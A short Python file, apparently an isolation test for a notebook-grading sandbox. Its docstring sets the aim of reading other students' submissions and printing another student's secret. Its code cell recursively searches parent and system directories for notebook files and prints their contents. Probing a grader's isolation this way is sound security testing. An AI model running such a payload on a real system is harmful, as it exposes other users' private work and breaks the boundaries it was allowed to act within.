"""Read what others handed in, and their graded notebooks. Success: another student's secret is printed."""

CELL = '''
import glob
import os

for up in (".", "..", "../..", "../../..", "../../../..", "/course", "/work", "/work/main/course", "/opt"):
    for path in glob.glob(os.path.join(up, "**", "*.ipynb"), recursive=up != "/"):
        print(path, open(path).read()[-3000:])
'''
